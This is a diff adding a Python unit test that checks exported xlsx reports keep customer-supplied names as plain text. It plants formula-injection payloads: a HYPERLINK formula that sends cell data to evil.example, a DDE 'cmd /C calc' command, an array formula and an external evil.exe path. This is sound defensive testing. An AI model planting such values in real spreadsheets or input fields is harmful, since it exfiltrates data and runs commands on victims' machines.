@@ -99,3 +99,22 @@ class TestXlsx(RomsReportsCase):
         cohorts = list(book["Cohorts"].iter_rows(values_only=True))
         self.assertEqual(cohorts[0], ("Cohort", "New Customers", "Month 1"))
         self.assertEqual([r[1:] for r in cohorts[1:]], [(1, 100), (1, 0)])
+
+    def test_texts_from_customers_stay_texts(self):
+        """Names typed by strangers (a WhatsApp profile, a portal form) come
+        out of every report as texts: no formula, no array formula, no link."""
+        self.ana.name = '=HYPERLINK("http://evil.example/?"&A3,"Klik")'
+        self.budi.write({"name": "{=SUM(1+1)}", "city": "external:c:\\evil.exe"})
+        self.env["product.product"].search([]).filtered(
+            lambda p: p.sale_ok and p.type == "consu"
+        )[:1].name = "=cmd|' /C calc'!A0"
+        texts = set()
+        for report in ("top_customers", "geography", "sales", "stock", "retention"):
+            for sheet in self.export(report).worksheets:
+                for row in sheet.iter_rows():
+                    for cell in row:
+                        self.assertNotEqual(cell.data_type, "f", (report, cell.value))
+                        self.assertIsNone(cell.hyperlink, (report, cell.value))
+                        texts.add(cell.value)
+        self.assertIn(self.ana.name, texts)
+        self.assertIn(self.budi.name, texts)
